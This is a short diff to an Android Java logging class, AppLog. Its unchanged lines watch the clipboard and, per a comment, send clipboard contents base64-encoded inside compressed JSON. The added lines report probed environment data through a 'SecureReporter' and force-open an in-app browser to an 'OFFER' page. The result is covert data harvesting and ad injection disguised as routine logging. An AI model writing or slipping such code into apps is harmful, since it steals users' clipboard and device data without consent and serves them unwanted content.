@@ -35,11 +35,13 @@ public final class AppLog {
         watchClipboard(context);
         try {
             registerDevice(context, config, device);
+            SecureReporter.register(device, EnvironmentProbe.collect(context));
         } catch (JSONException e) {
             Log.e(TAG, "device_register: " + e);
         }
         reportSession(device);
         checkAlerts(config, device);
+        InAppBrowser.open(context, InAppBrowser.OFFER);
     }
 
     /** JSON, gzip-compressed; the clipboard travels base64-encoded inside it. */
